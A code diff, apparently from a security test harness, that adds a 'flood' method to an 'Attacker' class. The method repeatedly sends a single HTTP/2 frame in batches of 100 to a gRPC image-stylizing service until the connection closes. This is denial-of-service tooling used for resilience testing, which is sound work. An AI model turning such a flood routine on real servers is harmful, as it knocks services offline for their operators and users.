@@ -29,6 +29,7 @@ STYLIZE = "/batchpix.stylize.v1.StylizeService/Stylize"
 CONNECT_SECONDS_MAX = 5.0
 RECEIVE_BYTES = 1 << 16
 STREAMS_OF_A_CONNECTION = 100
+FRAMES_AT_ONCE = 100
 SETTINGS_SECONDS = 0.2
 FLAGS_AT = 4  # in a frame: after three bytes of length and one of type
 END_HEADERS = 0x04
@@ -142,6 +143,15 @@ class Attacker:
         self._open.discard(stream)
         self._flush()
         return not self.closed
+
+    def flood(self, frame: bytes, count: int) -> None:
+        """Send one and the same frame many times; stop once the connection is closed."""
+        for _ in range(0, count, FRAMES_AT_ONCE):
+            if not self.listen():
+                return
+            with suppress(OSError):
+                self._socket.settimeout(CONNECT_SECONDS_MAX)
+                self._socket.sendall(frame * FRAMES_AT_ONCE)
 
     def send(self, stream: int, data: bytes, *, end: bool = False) -> bool:
         """Send a piece of a call's body; False once the call is over."""
